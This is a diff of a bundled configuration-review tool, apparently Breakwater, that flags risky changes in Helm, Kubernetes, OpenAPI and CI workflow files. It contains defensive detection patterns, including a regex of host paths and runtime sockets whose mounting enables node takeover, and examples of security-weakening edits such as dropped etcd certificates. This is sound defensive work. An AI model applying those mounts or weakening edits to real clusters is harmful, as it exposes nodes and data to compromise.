       why: "Readers of the old place find nothing and fall back to their default without a word.",
       fix: "Read both places until all have moved, and say so where users look.",
-      outcomes: { public: { risk: "medium", message: said2 }, internal: { risk: "info", message: said2 } },
+      outcomes: {
+        ...stillReadOutcomes(({ from: from3, to: to2 }) => `\`${from3}\` now stands at \`${to2}\``),
+        public: { risk: "medium", message: said2 },
+        internal: { risk: "info", message: said2 }
+      },
       examples: [
         { before: "a: { host: acme-1 }\nb: {}", after: "a: {}\nb: { host: acme-1 }", settings: PUBLIC, outcome: "public" },
         { before: "a: { host: acme-1 }\nb: {}", after: "a: {}\nb: { host: acme-1 }", outcome: "internal" },
+        {
+          before: chart("a: { host: acme-1 }\nb: { c: 1 }", "x: {{ .Values.a.host }}"),
+          after: chart("a: { d: 1 }\nb: { c: 1, host: acme-1 }", "x: {{ .Values.a.host }}"),
+          outcome: "empty"
+        },
+        {
+          before: chart("a: { host: { x: 1, y: 2 } }\nb: { c: 1 }", "x: {{ .Values.a.host.x }}"),
+          after: chart("a: { d: 1 }\nb: { c: 1, host: { x: 1, y: 2 } }", "x: {{ .Values.a.host.x }}"),
+          outcome: "stops"
+        },
         { before: "a: { on: true }\nb: {}", after: "a: {}\nb: { on: true }", outcome: "none" },
         { before: "a: { host: acme-1 }\nb: {}", after: "b: {}\na: { host: acme-1 }", outcome: "none" }
       ],
-      classify: ({ isPublic }) => isPublic ? "public" : "internal"
+      classify: ({ isPublic, stillRead }) => stillReadOutcome(stillRead) ?? (isPublic ? "public" : "internal")
     });
   }
 });
@@ -25483,18 +31542,20 @@ var init_tooling = __esm({
   "src/domains/config/tooling.ts"() {
     "use strict";
     TOOLING = /(?:^|\/)(?:\.|(?:mkdocs|codecov|azure-pipelines|skaffold|buf(?:\.[\w.]+)?|Chart|kustomization|jsonnetfile|codegen|pubspec|pnpm-\w+|(?:[\w.-]*[.-])?lock)\.ya?ml$)|(?:^|\/)(?:_data|locales?|i18n|translations?)\//i;
-    isTooling = (path25) => TOOLING.test(path25 ?? "");
+    isTooling = (path26) => TOOLING.test(path26 ?? "");
   }
 });
 
 // src/domains/config/rules/key-removed.ts
-var PUBLIC2, key_removed_default;
+var PUBLIC2, maybeNow, key_removed_default;
 var init_key_removed = __esm({
   "src/domains/config/rules/key-removed.ts"() {
     "use strict";
     init_changes();
+    init_outcomes();
     init_tooling();
     PUBLIC2 = { config: { isPublic: () => true } };
+    maybeNow = ({ maybe }) => maybe === void 0 ? "" : `; \`${maybe}\`, new beside it, may take its place`;
     key_removed_default = configRule({
       id: "config/key-removed",
       on: "key-removed",
@@ -25503,10 +31564,14 @@ var init_key_removed = __esm({
       why: "Whoever sets or reads it is ignored from now on, without a word.",
       fix: "Keep it as deprecated for a release, and say what takes its place.",
       outcomes: {
-        public: { risk: "medium", message: ({ subject }) => `\`${subject}\` was removed from a public configuration.` },
+        ...stillReadOutcomes(({ subject }) => `\`${subject}\` was removed`),
+        public: {
+          risk: "medium",
+          message: (c3) => `\`${c3.subject}\` was removed from a public configuration${maybeNow(c3)}.`
+        },
         internal: {
           risk: "low",
-          message: ({ subject }) => `\`${subject}\` was removed.`,
+          message: (c3) => `\`${c3.subject}\` was removed${maybeNow(c3)}.`,
           why: "Whatever still reads it falls back to its default without a word.",
           fix: "Make sure that nothing reads it any longer."
         }
@@ -25515,6 +31580,16 @@ var init_key_removed = __esm({
         { before: "a: 1\nb: 2", after: "a: 1", settings: PUBLIC2, outcome: "public" },
         { before: "a: 1\nb: 2", after: "a: 1", outcome: "internal" },
         { path: "charts/web/values.yaml", before: "a: 1\nb: { c: 2, d: 3 }", after: "a: 1", outcome: "internal" },
+        {
+          before: chart("z: 1\na: { b: x1 }", "x: {{ .Values.a.b }}"),
+          after: chart("z: 1", "x: {{ .Values.a.b }}"),
+          outcome: "stops"
+        },
+        {
+          before: chart("a: { b: x1, c: 2 }", "x: {{ .Values.a.b }}"),
+          after: chart("a: { c: 2 }", "x: {{ .Values.a.b }}"),
+          outcome: "empty"
+        },
         { before: "a: [{ name: x }]", after: "a: []", outcome: "none" },
         { path: "tests/app.yaml", before: "a: 1\nb: 2", after: "a: 1", outcome: "none" },
         { path: ".golangci.yml", before: "a: 1\nb: 2", after: "a: 1", outcome: "none" },
@@ -25530,8 +31605,9 @@ var init_key_removed = __esm({
           outcome: "none"
         }
       ],
-      classify({ isPublic, what, dialect: dialect26, area, inSchema, before: before3 }) {
+      classify({ isPublic, what, dialect: dialect26, area, inSchema, before: before3, stillRead }) {
         if (what === "item" || inSchema) return void 0;
+        if (stillRead) return stillReadOutcome(stillRead);
         if (isPublic) return "public";
         const isTyped = dialect26 !== void 0 && dialect26 !== "helm-values";
         return isTyped || area === "test" || isTooling(before3?.path) ? void 0 : "internal";
@@ -25541,13 +31617,15 @@ var init_key_removed = __esm({
 });
 
 // src/domains/config/rules/key-renamed.ts
-var PUBLIC3, key_renamed_default;
+var PUBLIC3, said3, key_renamed_default;
 var init_key_renamed = __esm({
   "src/domains/config/rules/key-renamed.ts"() {
     "use strict";
     init_changes();
+    init_outcomes();
     init_tooling();
     PUBLIC3 = { config: { isPublic: () => true } };
+    said3 = ({ from: from3, to: to2, reader }) => reader === void 0 ? `\`${from3}\` is now \`${to2}\`, judging by its place and value.` : `\`${from3}\` is now \`${to2}\`: \`${reader}\` changed along with it.`;
     key_renamed_default = configRule({
       id: "config/key-renamed",
       on: "key-renamed",
@@ -25556,24 +31634,35 @@ var init_key_renamed = __esm({
       why: "Readers of the old name find nothing and fall back to their default without a word.",
       fix: "Read both names until all have moved, and say so where users look.",
       outcomes: {
-        public: {
-          risk: "medium",
-          message: ({ from: from3, to: to2 }) => `\`${from3}\` is now \`${to2}\`, judging by its place and value.`
-        },
-        internal: {
-          risk: "low",
-          message: ({ from: from3, to: to2 }) => `\`${from3}\` is now \`${to2}\`, judging by its place and value.`
-        }
+        ...stillReadOutcomes(({ from: from3, to: to2 }) => `\`${from3}\` is now \`${to2}\``),
+        public: { risk: "medium", message: said3 },
+        internal: { risk: "low", message: said3 }
       },
       examples: [
         { before: "user_id: acme-4711", after: "userId: acme-4711", settings: PUBLIC3, outcome: "public" },
         { before: "user_id: acme-4711", after: "userId: acme-4711", outcome: "internal" },
+        {
+          before: { "app.yaml": "limit: acme-4711", "app.go": 'get("limit")' },
+          after: { "app.yaml": "most: acme-4711", "app.go": 'get("most")' },
+          outcome: "internal"
+        },
+        {
+          before: chart("user_id: x1", "x: {{ .Values.user_id }}"),
+          after: chart("userId: x1", "x: {{ .Values.user_id }}"),
+          outcome: "empty"
+        },
+        {
+          before: chart("user: { id: x1 }", "x: {{ .Values.user.id }}"),
+          after: chart("users: { id: x1 }", "x: {{ .Values.user.id }}"),
+          outcome: "stops"
+        },
         { before: "user_id: acme-4711", after: "user_id: acme-4712", outcome: "none" },
         { path: ".golangci.yml", before: "skip-dirs: [acme]", after: "exclude-dirs: [acme]", outcome: "none" },
         { before: "enable_tls: x", after: "disable_tls: x", outcome: "none" },
         { before: "alpha: 1", after: "omega: 2", outcome: "none" }
       ],
-      classify({ isPublic, before: before3 }) {
+      classify({ isPublic, before: before3, stillRead }) {
+        if (stillRead) return stillReadOutcome(stillRead);
         if (isPublic) return "public";
         return isTooling(before3?.path) ? void 0 : "internal";
       }
@@ -26365,7 +32454,7 @@ spec:
 });
 
 // src/domains/config/rules/kubernetes/crds.ts
-var crd3, INTEGER2, TEXT, without, needing, crds_default;
+var crd3, INTEGER2, TEXT, without2, needing, crds_default;
 var init_crds2 = __esm({
   "src/domains/config/rules/kubernetes/crds.ts"() {
     "use strict";
@@ -26384,7 +32473,7 @@ spec:
 `;
     INTEGER2 = "{ type: integer }";
     TEXT = "{ type: string }";
-    without = crd3(INTEGER2).replace("size:", "weight:");
+    without2 = crd3(INTEGER2).replace("size:", "weight:");
     needing = (schema) => crd3(schema).replace("required: []", "required: [size]");
     crds_default = [
       configRule({
@@ -26455,14 +32544,14 @@ spec:
           }
         },
         examples: [
-          { before: crd3(INTEGER2), after: without, outcome: "field-removed" },
+          { before: crd3(INTEGER2), after: without2, outcome: "field-removed" },
           { before: crd3(INTEGER2), after: crd3(TEXT), outcome: "type-changed" },
           {
             before: crd3("{ type: string, format: date }"),
             after: crd3("{ type: string, format: date-time }"),
             outcome: "format-changed"
           },
-          { before: without, after: without.replace("weight: {", "size: { type: string }, weight: {"), outcome: "none" },
+          { before: without2, after: without2.replace("weight: {", "size: { type: string }, weight: {"), outcome: "none" },
           { before: crd3(INTEGER2), after: crd3("{ type: integer, description: of the shop }"), outcome: "none" }
         ],
         classify: among2("field-removed", "type-changed", "format-changed")
@@ -26824,7 +32913,7 @@ var init_environment = __esm({
 });
 
 // src/domains/config/rules/kubernetes/etcd-files.ts
-var path8, etcd2, args4, FILES, BLOCKS, isFlag, etcd_files_default;
+var path9, etcd2, args4, FILES, BLOCKS, isFlag, etcd_files_default;
 var init_etcd_files = __esm({
   "src/domains/config/rules/kubernetes/etcd-files.ts"() {
     "use strict";
@@ -26832,7 +32921,7 @@ var init_etcd_files = __esm({
     init_examples();
     init_setting_paths();
     init_weakening();
-    path8 = "etcd.yaml";
+    path9 = "etcd.yaml";
     etcd2 = (lines) => `name: etcd-1
 client-transport-security:
   client-cert-auth: true
@@ -26854,11 +32943,11 @@ ${lines}`;
         absent: 0,
         outcomes: { flip: moved("critical"), drop: moved("critical"), hardened: hardened("etcd has a certificate") },
         examples: [
-          { path: path8, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: ''\n"), outcome: "flip" },
-          { path: path8, before: etcd2("  trusted-ca-file: /ca.crt\n"), after: etcd2(""), outcome: "drop" },
+          { path: path9, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: ''\n"), outcome: "flip" },
+          { path: path9, before: etcd2("  trusted-ca-file: /ca.crt\n"), after: etcd2(""), outcome: "drop" },
           { before: args4("--peer-cert-file=/a.crt"), after: args4(""), outcome: "drop" },
-          { path: path8, before: etcd2(""), after: etcd2("  cert-file: /a.crt\n"), outcome: "hardened" },
-          { path: path8, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: /b.crt\n"), outcome: "none" }
+          { path: path9, before: etcd2(""), after: etcd2("  cert-file: /a.crt\n"), outcome: "hardened" },
+          { path: path9, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: /b.crt\n"), outcome: "none" }
         ]
       })
     ];
@@ -27525,7 +33614,7 @@ var init_pod_host_access = __esm({
     init_weakening();
     NODE_TAKING = /^\/(?:$|(?:etc|root|proc|sys|dev|boot|home|usr|bin|sbin|lib|lib64)(?:$|\/$)|etc\/kubernetes|var\/?$|var\/run\/?$|run\/?$|var\/lib\/?$|var\/lib\/(?:kubelet|docker|containerd|etcd)\/?$|(?:var\/)?run\/(?:docker|containerd|crio|cri-dockerd|podman)\b.*|.*\.sock$)/;
     UNSAFE_SYSCTL = /^(?:kernel[./](?!shm_rmid_forced$)|fs[./]mqueue|net[./](?!ipv4[./](?:ip_local_port_range|tcp_syncookies|ping_group_range|ip_unprivileged_port_start|ip_local_reserved_ports|tcp_keepalive_\w+|tcp_fin_timeout|tcp_[rw]mem)$))/;
-    volume2 = (path25) => `volumes: [{ name: host, hostPath: { path: ${path25} } }]`;
+    volume2 = (path26) => `volumes: [{ name: host, hostPath: { path: ${path26} } }]`;
     mount = (rest) => pod("volumes: [{ name: host, hostPath: { path: /var/log } }]").replace(
       "image: web",
       `image: web, volumeMounts: [{ name: host, mountPath: /logs${rest} }]`
@@ -28313,7 +34402,7 @@ livenessProbe: { ${probe2} }`);
 });
 
 // src/domains/config/rules/kubernetes/probes.ts
-var probe, IN_VALUES2, VALUES2, served, examples2, probes_default;
+var probe, IN_VALUES2, VALUES3, served, examples2, probes_default;
 var init_probes = __esm({
   "src/domains/config/rules/kubernetes/probes.ts"() {
     "use strict";
@@ -28323,11 +34412,11 @@ var init_probes = __esm({
     init_owned();
     init_paths2();
     init_weakening();
-    probe = (name, path25 = "/healthz") => container(`${name}:
-  httpGet: { path: ${path25}, port: 8080 }
+    probe = (name, path26 = "/healthz") => container(`${name}:
+  httpGet: { path: ${path26}, port: 8080 }
   periodSeconds: 10`);
     IN_VALUES2 = { path: "charts/app/values.yaml" };
-    VALUES2 = "sidecars:\n  containers:\n  - name: web\n";
+    VALUES3 = "sidecars:\n  containers:\n  - name: web\n";
     served = (workload, app = "web") => `${workload.replace("    spec:\n", "    metadata: { labels: { app: web } }\n    spec:\n")}---
 apiVersion: v1
 kind: Service
@@ -28358,8 +34447,8 @@ spec: { selector: { app: ${app} } }
           hardened: added("readiness probe added", "readiness probe")
         },
         examples: [
-          { ...IN_VALUES2, before: `${VALUES2}    readinessProbe: { periodSeconds: 10 }
-`, after: VALUES2, outcome: "drop" },
+          { ...IN_VALUES2, before: `${VALUES3}    readinessProbe: { periodSeconds: 10 }
+`, after: VALUES3, outcome: "drop" },
           { before: container(), after: probe("readinessProbe"), outcome: "hardened" },
           { before: probe("readinessProbe"), after: probe("readinessProbe", "/ready"), outcome: "none" },
           { before: probe("readinessProbe"), after: "", outcome: "none" }
@@ -29239,7 +35328,7 @@ ${lines === "" ? "" : `    ${lines}`}
       `rules: [${operations.map((each) => `{ apiGroups: [apps], resources: [deployments], operations: ${each} }`).join(", ")}]`
     );
     SELECTIONS = ["namespaceSelector", "objectSelector", "matchConditions"];
-    isSelection = ({ keys, path: path25, ownerBefore, ownerAfter }) => keys.at(-2) === "webhooks" && SELECTIONS.includes(keys.at(-1) ?? "") && path25.at(-1)?.kind === "key" || keys.at(-4) === "webhooks" && keys.at(-2) === "matchLabels" && ownerBefore !== void 0 && ownerAfter !== void 0;
+    isSelection = ({ keys, path: path26, ownerBefore, ownerAfter }) => keys.at(-2) === "webhooks" && SELECTIONS.includes(keys.at(-1) ?? "") && path26.at(-1)?.kind === "key" || keys.at(-4) === "webhooks" && keys.at(-2) === "matchLabels" && ownerBefore !== void 0 && ownerAfter !== void 0;
     WIDE = 0;
     selects2 = (node2) => node2.kind === "scalar" ? -1 : present(node2) === void 0 ? void 0 : -(node2.kind === "list" ? node2.items.length : conditionsOf(node2));
     conditionsOf = (selector2) => entriesOf(at(selector2, "matchLabels")).length + itemsAt(selector2, "matchExpressions").length;
@@ -29317,7 +35406,7 @@ ${lines === "" ? "" : `    ${lines}`}
         fix: "Keep the rule for as long as such objects may be created.",
         dialect: MANIFESTS,
         governs: either(
-          ({ keys, path: path25, ownerAfter }) => path25.at(-1)?.kind === "item" && endsWith(keys, ["webhooks", "rules"]) && ownerAfter !== void 0,
+          ({ keys, path: path26, ownerAfter }) => path26.at(-1)?.kind === "item" && endsWith(keys, ["webhooks", "rules"]) && ownerAfter !== void 0,
           ...["apiGroups", "operations", "resources"].map((name) => atEnd("webhooks", "rules", name))
         ),
         rank: coversRequests,
@@ -29553,7 +35642,7 @@ function isServed2(node2, { before: before3, document: document2 }) {
   const served2 = hostsOf(document2.after?.root);
   return isAny(host) || served2.includes(host) || served2.some((other) => isAny(other) || other?.includes("{{")) ? void 0 : 1;
 }
-var ingress2, PATHS, rules, paths2, isAny, hostsOf, ingress_hosts_default;
+var ingress2, PATHS, rules2, paths2, isAny, hostsOf, ingress_hosts_default;
 var init_ingress_hosts = __esm({
   "src/domains/config/rules/network/ingress-hosts.ts"() {
     "use strict";
@@ -29565,7 +35654,7 @@ var init_ingress_hosts = __esm({
     init_weakening();
     ingress2 = object2("networking.k8s.io/v1", "Ingress");
     PATHS = "http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: web, port: { number: 80 } } } }] }";
-    rules = (...hosts2) => ingress2(`rules: [${hosts2.map((host) => `{ ${host === "" ? "" : `host: ${host}, `}${PATHS} }`).join(", ")}]`);
+    rules2 = (...hosts2) => ingress2(`rules: [${hosts2.map((host) => `{ ${host === "" ? "" : `host: ${host}, `}${PATHS} }`).join(", ")}]`);
     paths2 = (...names4) => ingress2(
       `rules: [{ host: a.example.com, http: { paths: [${names4.map((name) => `{ path: ${name}, pathType: Prefix }`).join(", ")}] } }]`
     );
@@ -29584,15 +35673,15 @@ var init_ingress_hosts = __esm({
         outcomes: { flip: moved("medium"), drop: { risk: "medium", message: () => "The rule of a host was removed." } },
         refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
         examples: [
-          { before: rules("a.example.com"), after: rules("b.example.com"), outcome: "flip" },
-          { before: rules("a.example.com", "b.example.com"), after: rules("a.example.com"), outcome: "drop" },
+          { before: rules2("a.example.com"), after: rules2("b.example.com"), outcome: "flip" },
+          { before: rules2("a.example.com", "b.example.com"), after: rules2("a.example.com"), outcome: "drop" },
           {
-            before: rules("a.example.com", "b.example.com"),
-            after: rules("b.example.com", "a.example.com"),
+            before: rules2("a.example.com", "b.example.com"),
+            after: rules2("b.example.com", "a.example.com"),
             outcome: "none"
           },
-          { before: rules("a.example.com"), after: rules("a.example.com", "b.example.com"), outcome: "none" },
-          { before: rules("a.example.com"), after: "", outcome: "none" }
+          { before: rules2("a.example.com"), after: rules2("a.example.com", "b.example.com"), outcome: "none" },
+          { before: rules2("a.example.com"), after: "", outcome: "none" }
         ]
       }),
       control({
@@ -29611,10 +35700,10 @@ var init_ingress_hosts = __esm({
           hardened: hardened("ingress answers for named hosts only")
         },
         examples: [
-          { before: rules("a.example.com"), after: rules('"*"'), outcome: "flip" },
-          { before: rules("a.example.com"), after: rules(""), outcome: "drop" },
-          { before: rules(""), after: rules("a.example.com"), outcome: "hardened" },
-          { before: rules("a.example.com"), after: rules("a.example.com # the shop"), outcome: "none" }
+          { before: rules2("a.example.com"), after: rules2('"*"'), outcome: "flip" },
+          { before: rules2("a.example.com"), after: rules2(""), outcome: "drop" },
+          { before: rules2(""), after: rules2("a.example.com"), outcome: "hardened" },
+          { before: rules2("a.example.com"), after: rules2("a.example.com # the shop"), outcome: "none" }
         ]
       }),
       control({
@@ -29904,7 +35993,7 @@ var init_mesh = __esm({
     peers = object2("security.istio.io/v1", "PeerAuthentication");
     destination = object2("networking.istio.io/v1", "DestinationRule");
     telemetry = object2("install.istio.io/v1alpha1", "IstioOperator");
-    within2 = (kind, holds5) => (setting) => kindOf(setting.document.after ?? setting.document.before) === kind && holds5(setting);
+    within2 = (kind, holds6) => (setting) => kindOf(setting.document.after ?? setting.document.before) === kind && holds6(setting);
     mesh_default = [
       control({
         id: "config/mesh-mutual-tls",
@@ -30506,14 +36595,14 @@ responses: { '200': { content: { application/json: { schema: { $ref: '#/componen
 });
 
 // src/domains/config/rules/openapi/inputs.ts
-var NAME2, WITH_LIMIT, ALONE, BODY, inputs_default;
+var NAME3, WITH_LIMIT, ALONE, BODY, inputs_default;
 var init_inputs = __esm({
   "src/domains/config/rules/openapi/inputs.ts"() {
     "use strict";
     init_changes();
     init_among();
     init_examples5();
-    NAME2 = ", name: { type: string }";
+    NAME3 = ", name: { type: string }";
     WITH_LIMIT = limit("schema: { type: integer }");
     ALONE = operation("parameters: []");
     BODY = "content: { application/json: { schema: { type: string } } }";
@@ -30571,15 +36660,15 @@ var init_inputs = __esm({
             after: operation(`requestBody: { required: true, ${BODY} }`),
             outcome: "body-became-required"
           },
-          { before: asked3(user("")), after: asked3(user(NAME2, ", required: [name]")), outcome: "property-added-required" },
+          { before: asked3(user("")), after: asked3(user(NAME3, ", required: [name]")), outcome: "property-added-required" },
           {
-            before: asked3(user(NAME2)),
-            after: asked3(user(NAME2, ", required: [name]")),
+            before: asked3(user(NAME3)),
+            after: asked3(user(NAME3, ", required: [name]")),
             outcome: "property-became-required"
           },
           { before: ALONE, after: WITH_LIMIT, outcome: "none" },
           { before: ALONE, after: limit("required: true, schema: { type: integer, default: 20 }"), outcome: "none" },
-          { before: asked3(user("")), after: asked3(user(NAME2)), outcome: "none" },
+          { before: asked3(user("")), after: asked3(user(NAME3)), outcome: "none" },
           {
             before: asked3(user("")),
             after: asked3(user(", name: { type: string, readOnly: true }", ", required: [name]")),
@@ -30600,17 +36689,17 @@ var init_inputs = __esm({
 });
 
 // src/domains/config/rules/openapi/operations.ts
-var API, WITH_DELETE, WITH_TEAMS, operations_default;
+var API2, WITH_DELETE, WITH_TEAMS, operations_default;
 var init_operations = __esm({
   "src/domains/config/rules/openapi/operations.ts"() {
     "use strict";
     init_changes();
     init_among();
     init_examples5();
-    API = operation("responses: {}");
-    WITH_DELETE = `${API}    delete: { operationId: deleteUser, responses: {} }
+    API2 = operation("responses: {}");
+    WITH_DELETE = `${API2}    delete: { operationId: deleteUser, responses: {} }
 `;
-    WITH_TEAMS = `${API}  /teams: { get: { operationId: listTeams, responses: {} } }
+    WITH_TEAMS = `${API2}  /teams: { get: { operationId: listTeams, responses: {} } }
 `;
     operations_default = [
       configRule({
@@ -30640,15 +36729,15 @@ var init_operations = __esm({
           }
         },
         examples: [
-          { before: WITH_TEAMS, after: API, outcome: "path-removed" },
-          { before: WITH_DELETE, after: API, outcome: "operation-removed" },
+          { before: WITH_TEAMS, after: API2, outcome: "path-removed" },
+          { before: WITH_DELETE, after: API2, outcome: "operation-removed" },
           {
             before: WITH_DELETE.replace("deleteUser", "deleteUser, deprecated: true"),
-            after: API,
+            after: API2,
             outcome: "deprecated-removed"
           },
-          { before: API, after: WITH_TEAMS, outcome: "none" },
-          { before: API, after: API.replace("{id}", "{userId}"), outcome: "none" },
+          { before: API2, after: WITH_TEAMS, outcome: "none" },
+          { before: API2, after: API2.replace("{id}", "{userId}"), outcome: "none" },
           { before: WITH_TEAMS, after: WITH_TEAMS.replace("/teams", "/groups"), outcome: "none" }
         ],
         classify: (change2) => {
@@ -30668,7 +36757,7 @@ var init_operations = __esm({
         outcomes: { moved: { risk: "high", message: (c3) => `\`${c3.from}\` is now \`${c3.to}\`.` } },
         examples: [
           { before: WITH_TEAMS, after: WITH_TEAMS.replace("/teams", "/groups"), outcome: "moved" },
-          { before: WITH_TEAMS, after: API, outcome: "none" }
+          { before: WITH_TEAMS, after: API2, outcome: "none" }
         ],
         classify: ({ what }) => what === "operation-moved" ? "moved" : void 0
       }),
@@ -30685,8 +36774,8 @@ var init_operations = __esm({
           renamed: { risk: "medium", message: (c3) => `\`${c3.from}\` is now called \`${c3.to}\` (\`${c3.operation}\`).` }
         },
         examples: [
-          { before: API, after: API.replace("saveUser", "putUser"), outcome: "renamed" },
-          { before: API, after: API.replace("responses", "summary: saves\n      responses"), outcome: "none" }
+          { before: API2, after: API2.replace("saveUser", "putUser"), outcome: "renamed" },
+          { before: API2, after: API2.replace("responses", "summary: saves\n      responses"), outcome: "none" }
         ],
         classify: ({ what }) => what === "operation-id-changed" ? "renamed" : void 0
       }),
@@ -30705,8 +36794,8 @@ var init_operations = __esm({
           }
         },
         examples: [
-          { before: API, after: API.replace("saveUser", "saveUser\n      deprecated: true"), outcome: "deprecated" },
-          { before: API.replace("saveUser", "saveUser\n      deprecated: true"), after: API, outcome: "none" }
+          { before: API2, after: API2.replace("saveUser", "saveUser\n      deprecated: true"), outcome: "deprecated" },
+          { before: API2.replace("saveUser", "saveUser\n      deprecated: true"), after: API2, outcome: "none" }
         ],
         classify: among3("deprecated")
       })
@@ -30867,14 +36956,14 @@ var init_requests2 = __esm({
 });
 
 // src/domains/config/rules/openapi/responses.ts
-var NAME3, answers, OK, MISSING, LINK, responses_default;
+var NAME4, answers, OK, MISSING, LINK, responses_default;
 var init_responses2 = __esm({
   "src/domains/config/rules/openapi/responses.ts"() {
     "use strict";
     init_changes();
     init_among();
     init_examples5();
-    NAME3 = ", name: { type: string }";
+    NAME4 = ", name: { type: string }";
     answers = (responses) => operation(`responses: { ${responses} }`);
     OK = "'200': { description: done }";
     MISSING = "'404': { description: missing }";
@@ -30986,8 +37075,8 @@ var init_responses2 = __esm({
             outcome: "null-returned"
           },
           {
-            before: answered(user(NAME3, ", required: [name]")),
-            after: answered(user(NAME3)),
+            before: answered(user(NAME4, ", required: [name]")),
+            after: answered(user(NAME4)),
             outcome: "property-became-optional"
           },
           {
@@ -31000,7 +37089,7 @@ var init_responses2 = __esm({
             after: answered("{ type: integer, maximum: 9 }"),
             outcome: "bound-loosened"
           },
-          { before: answered(user(NAME3)), after: answered(user(NAME3, ", required: [name]")), outcome: "none" },
+          { before: answered(user(NAME4)), after: answered(user(NAME4, ", required: [name]")), outcome: "none" },
           {
             before: answered("{ type: string, enum: [paid, open] }"),
             after: answered("{ type: string, enum: [open] }"),
@@ -31014,14 +37103,14 @@ var init_responses2 = __esm({
 });
 
 // src/domains/config/rules/openapi/schemas.ts
-var NAME4, schemas_default;
+var NAME5, schemas_default;
 var init_schemas = __esm({
   "src/domains/config/rules/openapi/schemas.ts"() {
     "use strict";
     init_changes();
     init_among();
     init_examples5();
-    NAME4 = ", name: { type: string }";
+    NAME5 = ", name: { type: string }";
     schemas_default = [
       configRule({
         id: "config/api-property-removed",
@@ -31055,9 +37144,9 @@ var init_schemas = __esm({
           }
         },
         examples: [
-          { before: answered(user(NAME4)), after: answered(user("")), outcome: "from-response" },
-          { before: shared(user(NAME4)), after: shared(user("")), outcome: "from-response" },
-          { before: asked3(user(NAME4)), after: asked3(user("")), outcome: "from-request" },
+          { before: answered(user(NAME5)), after: answered(user("")), outcome: "from-response" },
+          { before: shared(user(NAME5)), after: shared(user("")), outcome: "from-response" },
+          { before: asked3(user(NAME5)), after: asked3(user("")), outcome: "from-request" },
           {
             before: answered(user(", name: { type: string, deprecated: true }")),
             after: answered(user("")),
@@ -31068,13 +37157,13 @@ var init_schemas = __esm({
             after: answered(user(", userName: { type: string, maxLength: 80 }")),
             outcome: "renamed"
           },
-          { before: answered(user("")), after: answered(user(NAME4)), outcome: "none" },
+          { before: answered(user("")), after: answered(user(NAME5)), outcome: "none" },
           {
             before: asked3(user(", created: { type: string, readOnly: true }")),
             after: asked3(user("")),
             outcome: "none"
           },
-          { before: answered(user(NAME4)), after: shared(user(NAME4)).replace("operationId", "x-was"), outcome: "none" }
+          { before: answered(user(NAME5)), after: shared(user(NAME5)).replace("operationId", "x-was"), outcome: "none" }
         ],
         classify: ({ what, isDeprecated: isDeprecated2, direction }) => {
           if (what === "property-renamed") return "renamed";
@@ -31322,12 +37411,12 @@ function shown4({ how, values: values2 }) {
   const names4 = values2.slice(0, MOST_NAMED3).map((value) => `\`${value}\``);
   return ` ${names4.join(how === "goes from" ? " to " : ", ")}${more}`;
 }
-var path9, before, MOST_NAMED3, settings_default2;
+var path10, before, MOST_NAMED3, settings_default2;
 var init_settings4 = __esm({
   "src/domains/config/rules/own/settings.ts"() {
     "use strict";
     init_changes();
-    path9 = ".github/breakwater.yml";
+    path10 = ".github/breakwater.yml";
     before = "version: 1\nfail-on: high\n";
     MOST_NAMED3 = 3;
     settings_default2 = configRule({
@@ -31347,15 +37436,15 @@ var init_settings4 = __esm({
         new: { risk: "info", message: () => "Settings of Breakwater are new.", fix: "Nothing to do." }
       },
       examples: [
-        { path: path9, before, after: "version: 1\nfail-on: never\n", outcome: "loosened" },
-        { path: path9, before, after: `${before}paths: { ignore: ["**"] }
+        { path: path10, before, after: "version: 1\nfail-on: never\n", outcome: "loosened" },
+        { path: path10, before, after: `${before}paths: { ignore: ["**"] }
 `, outcome: "loosened" },
-        { path: path9, before, after: "", outcome: "removed" },
-        { path: path9, before, after: "version: 1\nfail-on: medium\n", outcome: "edited" },
-        { path: path9, before: "", after: before, outcome: "new" },
-        { path: path9, before, after: `# Ours.
+        { path: path10, before, after: "", outcome: "removed" },
+        { path: path10, before, after: "version: 1\nfail-on: medium\n", outcome: "edited" },
+        { path: path10, before: "", after: before, outcome: "new" },
+        { path: path10, before, after: `# Ours.
 ${before}`, outcome: "none" },
-        { path: path9, before, after: 'fail-on: "high"\nversion: 1\n', outcome: "none" }
+        { path: path10, before, after: 'fail-on: "high"\nversion: 1\n', outcome: "none" }
       ],
       classify: ({ way }) => way
     });
@@ -31363,12 +37452,12 @@ ${before}`, outcome: "none" },
 });
 
 // src/domains/config/rules/own/workflow.ts
-var path10, review2, before2, input, workflow_default;
+var path11, review2, before2, input, workflow_default;
 var init_workflow = __esm({
   "src/domains/config/rules/own/workflow.ts"() {
     "use strict";
     init_changes();
-    path10 = ".github/workflows/review.yml";
+    path11 = ".github/workflows/review.yml";
     review2 = (job4 = "", on4 = "pull_request: { types: [opened, synchronize] }", step3 = "") => `on:
   ${on4}
 jobs:
@@ -31428,24 +37517,24 @@ ${step3}`;
         }
       },
       examples: [
-        { path: path10, before: before2, after: before2.replace("acme/breakwater@v1", "acme/other@v1"), outcome: "gone" },
-        { path: path10, before: before2, after: "", outcome: "gone" },
-        { path: path10, before: before2, after: review2("", "push:"), outcome: "untriggered" },
-        { path: path10, before: before2, after: review2("    if: github.actor == 'octocat'\n"), outcome: "skipped" },
-        { path: path10, before: before2, after: review2("    continue-on-error: true\n"), outcome: "ignored" },
-        { path: path10, before: input("high"), after: input("never"), outcome: "toothless" },
-        { path: path10, before: before2, after: review2("", "pull_request: { paths: [src/**] }"), outcome: "filtered" },
-        { path: path10, before: before2, after: review2("    timeout-minutes: 5\n"), outcome: "edited" },
-        { path: path10, before: before2, after: `${before2}  other:
+        { path: path11, before: before2, after: before2.replace("acme/breakwater@v1", "acme/other@v1"), outcome: "gone" },
+        { path: path11, before: before2, after: "", outcome: "gone" },
+        { path: path11, before: before2, after: review2("", "push:"), outcome: "untriggered" },
+        { path: path11, before: before2, after: review2("    if: github.actor == 'octocat'\n"), outcome: "skipped" },
+        { path: path11, before: before2, after: review2("    continue-on-error: true\n"), outcome: "ignored" },
+        { path: path11, before: input("high"), after: input("never"), outcome: "toothless" },
+        { path: path11, before: before2, after: review2("", "pull_request: { paths: [src/**] }"), outcome: "filtered" },
+        { path: path11, before: before2, after: review2("    timeout-minutes: 5\n"), outcome: "edited" },
